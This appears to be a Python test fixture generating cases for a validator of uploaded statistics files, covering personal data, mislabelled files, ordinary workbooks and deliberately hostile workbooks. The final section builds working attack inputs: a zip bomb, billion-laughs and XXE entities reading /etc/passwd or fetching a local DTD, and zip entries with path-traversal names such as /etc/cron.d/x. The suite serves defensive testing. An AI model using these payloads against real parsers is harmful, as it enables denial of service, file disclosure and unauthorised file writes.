    secrets = ("Exempelson", "kim@")
    yield bad(307, "rektorer", register, "namn på personer", line=1, secrets=secrets)
    content = json.dumps([{"kpi": "N15419", "elev": {"personnummer": PERSON, "namn": "Kim"}}]).encode()
    yield bad(
        307,
        "i json",
        replace(pupils, name="svar.json"),
        "ett personnummer",
        content,
        secrets=(PERSON,),
    )
    numbered = [(*TEMPLATE.row(2)[:3], str(year), *TEMPLATE.row(2)[4:]) for year in range(1991, 2004)]
    invoices = TEMPLATE.with_rows([TEMPLATE_HEADINGS, *numbered]).put_all(
        "Anmärkning", *(f"99000000{number}" for number in range(10, 22)), PERSON
    )
    why = "ett av många tal kan vara ett personnummer av en slump"
    yield Case(
        "302 ett tal bland andra utfall.csv", invoices.csv(), "warnings", why, line=14, secrets=(PERSON,)
    )
    written = ACTIONS.put(2, "Kommentar", "Kim Exempelson på förvaltningen håller i det.")
    yield good(308, "ett namn i en text", written, "namn i löpande text kan ingen skilja från andra ord")


def zipped(files: dict[str, bytes]) -> bytes:
    """A zip file."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return written.getvalue()


def not_what_it_says() -> Iterator[Case]:
    """400–412: what the name says it is, and what it is."""
    whole = TEMPLATE.csv()
    tarred = io.BytesIO()
    with tarfile.open(fileobj=tarred, mode="w") as archive:
        entry = tarfile.TarInfo("utfall.csv")
        entry.size = len(whole)
        archive.addfile(entry, io.BytesIO(whole))
    noise = random.Random(400).randbytes(20_000)
    html = "<!DOCTYPE html><html><head><title>Logga in</title></head><body><form><input name=q></form></body></html>"
    old_workbook = (
        bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(2_000)
    )
    table = "<html><table><tr><td>Kommunkod</td><td>Utfall</td></tr><tr><td>9901</td><td>78,8</td></tr></table></html>"
    for number, name, content, why in (
        (400, "arkiv.csv", zipped({"utfall.csv": whole}), "ett arkiv"),
        (400, "tomt-arkiv.xlsx", zipped({}), "ett tomt arkiv"),
        (400, "dokument.xlsx", zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}), "ett Worddokument"),
        (400, "arkiv.tar", tarred.getvalue(), "ett arkiv"),
        (401, "rapport.csv", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n", "en PDF"),
        (402, "inloggning.csv", html.encode(), "en inloggningssida i stället för filen"),
        (403, "svar.csv", json.dumps({"detail": "Not found"}).encode(), "ett felmeddelande"),
        (403, "trasig.json", b'{"count": 1, "values": [', "avbruten JSON"),
        (403, "djup.json", b"[" * 100_000 + b"]" * 100_000, "JSON som ingen har skrivit"),
        (403, "lista.json", b"[1, 2, 3]", "JSON om något annat"),
        (404, "utfall.tar.gz", gzip.compress(tarred.getvalue()), "ett packat arkiv"),
        (404, "utfall.xlsx.gz", gzip.compress(TEMPLATE.xlsx()), "en packad arbetsbok"),
        (404, "utfall.csv.gz", gzip.compress(whole)[:-9], "packad och avbruten på vägen"),
        (405, "nollor.csv", bytes(10_000), "bara nollbytes"),
        (406, "brus.csv", noise, "brus"),
        (406, "brus.xlsx", noise, "brus"),
        (406, "bild.csv", b"\x89PNG\r\n\x1a\n" + noise, "en bild"),
        (407, "avbruten.xlsx", TEMPLATE.xlsx()[:3_000], "avbruten på vägen"),
        (407, "avbruten.csv", whole[: len(whole) - 25], "avbruten på vägen: sista raden är kort"),
        (407, "avbruten.parquet", parquet()[:-200], "avbruten på vägen"),
        (408, "pekare.csv", b"version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 12345\n", "en hänvisning till filen"),
        (411, "tabell.xls", table.encode(), "en webbsida som låtsas vara Excel"),
        (412, "låst.xlsx", old_workbook, "låst med lösenord"),
    ):  # fmt: skip
        yield Case(f"{number} {name}", content, "rejected", why)
    for number, name, content, why in (
        (409, "egentligen-parquet.csv", parquet(), "innehållet avgör: en hel Parquetfil"),
        (404, "utfall-packad.csv", gzip.compress(whole), "innehållet avgör: en hel CSV-fil som är packad"),
        (410, "egentligen-xlsx.csv", TEMPLATE.xlsx(), "innehållet avgör: en hel arbetsbok"),
        (410, "egentligen-csv.xlsx", whole, "innehållet avgör: en hel CSV-fil"),
        (410, "utan-ändelse", whole, "innehållet avgör"),
        (410, "utfall.csv.exe", whole, "innehållet avgör: namnet används inte"),
        (410, "../../utfall.csv", whole, "innehållet avgör: namnet används inte"),
        (410, "CON", whole, "innehållet avgör: namnet används inte"),
        (410, f"{'långt namn ' * 30}.csv", whole, "innehållet avgör: namnet används inte"),
        (410, "utfall\u202evsc.exe", whole, "innehållet avgör: namnet används inte"),
    ):
        yield Case(
            f"{number} {name}", content, "accepted", why, reads_as=KOLADA if number == 409 else TEMPLATE
        )


def parquet() -> bytes:
    """Kolada's table as Parquet, with typed columns."""
    headings, *rows = KOLADA.rows
    columns = dict(zip(headings, map(list, zip(*rows, strict=True)), strict=True))
    table = pa.table(
        {
            **columns,
            "year": [int(year) for year in columns["year"]],
            "value": [float(value.replace(",", ".")) for value in columns["value"]],
        }
    )
    written = io.BytesIO()
    pq.write_table(table, written)
    return written.getvalue()


def workbooks() -> Iterator[Case]:
    """Workbooks as people save them."""
    yield good(450, "xlsx av text", TEMPLATE, "mallen som arbetsbok", TEMPLATE.xlsx())
    typed = TEMPLATE.xlsx(numbers=("Kommunkod", "Skolenhetskod", "År", "Utfall", "Antal elever eller svar"))
    yield good(450, "xlsx av tal", TEMPLATE, "tal som tal: 9901 har inte tappat något", typed)
    shown = PER_SCHOOL.map(SHARE, lambda _, cell: cell.replace("..", "90,0"))
    typed = shown.xlsx("Statistik", numbers=(SHARE,))
    yield good(450, "xlsx från skolverket", shown, "så ser Skolverkets arbetsbok ut", typed)
    yield good(450, "xlsx", ACTIONS, "tabellen som arbetsbok", ACTIONS.xlsx())
    yield good(450, "xlsx", KOLADA, "tabellen som arbetsbok", KOLADA.xlsx(numbers=("value", "year")))
    lost = TEMPLATE.put(3, "Kommunkod", "125").xlsx(numbers=("Kommunkod",))
    yield bad(
        451,
        "tappad nolla i tal",
        TEMPLATE,
        "0125 har blivit 125",
        lost,
        line=3,
        column="Kommunkod",
    )
    spoilt = TEMPLATE.put(4, "Utfall", "okänt").xlsx()
    yield bad(451, "fel cell", TEMPLATE, "inget tal", spoilt, line=4, column="Utfall")
    yield bad(
        451, "formel utan värde", TEMPLATE, "ingen har räknat ut den", with_formula(), line=3, column="G"
    )
    yield bad(451, "bara rubriker", TEMPLATE, "inga rader", TEMPLATE.with_rows(TEMPLATE.rows[:1]).xlsx())
    yield bad(
        452,
        "samma tabell på två blad",
        TEMPLATE,
        "allt står två gånger",
        TEMPLATE.xlsx("Ett", "Två"),
    )


def with_formula() -> bytes:
    """The template as a workbook that no spreadsheet has opened: a formula without what it comes to."""
    written = io.BytesIO()
    with xlsxwriter.Workbook(written, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Utfall")
        for line, cells in enumerate(TEMPLATE.rows):
            for place, cell in enumerate(cells):
                sheet.write_string(line, place, cell)
        sheet.write_formula(2, TEMPLATE.place("Utfall"), "=78+1", None, "")
    return written.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def repacked(change: dict[str, Callable[[bytes], bytes]], extra: dict[str, bytes] | None = None) -> bytes:
    """The template as a workbook, with some of its parts changed and others added."""
    written = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(TEMPLATE.xlsx())) as source,
        zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            content = source.read(name)
            target.writestr(name, change[name](content) if name in change else content)
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return written.getvalue()


def with_doctype(doctype: str, entity: str) -> Callable[[bytes], bytes]:
    """A part of a workbook that begins by defining entities, and uses one in its first text."""

    def change(content: bytes) -> bytes:
        declaration, _, rest = content.partition(b"?>")
        used = rest.replace(b">Kommunkod<", f">{entity}<".encode())
        used = used.replace(b"<sheetData>", f"<sheetData><!-- {entity} -->".encode())
        return declaration + b"?>" + doctype.encode() + used

    return change


def attacking_workbooks() -> Iterator[Case]:
    """500–: workbooks made to bring down whoever opens them."""

    def attack(words: str, content: bytes, why: str, expected: Expected = "rejected") -> Case:
        return Case(f"500 {words}.xlsx", content, expected, why, is_hostile=True)

    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    yield attack(
        "cell i bladets sista hörn",
        repacked({SHEET: lambda content: content.replace(b"</sheetData>", far)}),
        "17 miljarder celler",
    )
    yield attack(
        "falskt mått",
        repacked({SHEET: lambda content: re.sub(rb'ref="A1:\w+"', b'ref="A1:XFD1048576"', content)}),
        "bladet säger att det är större än det är",
        "accepted",
    )
    row = b'<row><c t="inlineStr"><is><t>' + b"0" * 200 + b"</t></is></c></row>"
    bomb = b"".join(
        (f'<worksheet xmlns="{MAIN}"><sheetData>'.encode(), row * 1_500_000, b"</sheetData></worksheet>")
    )
    yield attack("zipbomb", repacked({SHEET: lambda _: bomb}), "350 MB ur mindre än en")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>'
    yield attack(
        "miljarder skratt i texter",
        repacked({"xl/sharedStrings.xml": with_doctype(doctype, "&l9;")}),
        "två miljarder tecken",
    )
    yield attack(
        "miljarder skratt i bladet", repacked({SHEET: with_doctype(doctype, "&l9;")}), "två miljarder tecken"
    )
    outside = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    yield attack(
        "fil utifrån",
        repacked({"xl/sharedStrings.xml": with_doctype(outside, "&e;")}),
        "läser en fil på servern",
    )
    outside = '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://127.0.0.1:9/e.dtd"> %e;]>'
    yield attack(
        "webben utifrån",
        repacked({"xl/sharedStrings.xml": with_doctype(outside, "x")}),
        "hämtar något från nätet",
    )
    slipped = repacked({}, {"../../../tmp/utanför.txt": b"x", "/etc/cron.d/x": b"x"})
    yield attack("filer med sökvägar", slipped, "sådana namn har inget kalkylblad")
    yield attack("bladet fattas", repacked({SHEET: lambda _: b""}), "arbetsboken är trasig")
    yield attack(
        "inga texter", repacked({"xl/sharedStrings.xml": lambda _: b"<sst/>"}), "arbetsboken är trasig"
    )
    yield attack(
        "många blad", TEMPLATE.xlsx(*(f"Blad{n}" for n in range(1, 400))), "fyra hundra likadana blad"
    )
